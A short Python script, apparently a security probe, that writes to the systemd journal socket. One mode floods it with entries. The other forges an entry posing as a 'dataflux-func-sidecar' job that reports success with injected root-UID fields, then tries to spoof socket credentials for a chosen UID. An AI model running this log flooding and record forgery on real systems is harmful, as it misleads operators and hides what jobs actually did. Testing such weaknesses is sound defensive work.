"""Sends entries to the socket of the journal.

journal.py flood COUNT   COUNT entries as fast as possible
journal.py forge UID     one entry that imitates the daemon, and attempts to send it as user UID
"""

import errno
import os
import socket
import struct
import sys

JOURNAL = "/run/systemd/journal/socket"


def entry(text):
    return ("MESSAGE=%s\nPRIORITY=6\nSYSLOG_IDENTIFIER=dataflux-func-sidecar\n"
            "MESSAGE_ID=c8465b1b1c1042caa73dba034f435a39\nSIDECAR_JOB_ID=forged\n_UID=0\n_EXE=/bin/true\n" % text).encode()


def main():
    to = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    to.connect(JOURNAL)
    if sys.argv[1] == "flood":
        for _ in range(int(sys.argv[2])):
            to.send(b"MESSAGE=flood\nPRIORITY=6\n")
        print("sent")
        return
    to.send(entry("Command finished after 1ms: exit status 0"))
    claim = struct.pack("3i", os.getpid(), int(sys.argv[2]), os.getgid())
    try:
        to.sendmsg([entry("claimed")], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, claim)])
        print("allowed")
    except OSError as error:
        print(errno.errorcode[error.errno])


main()
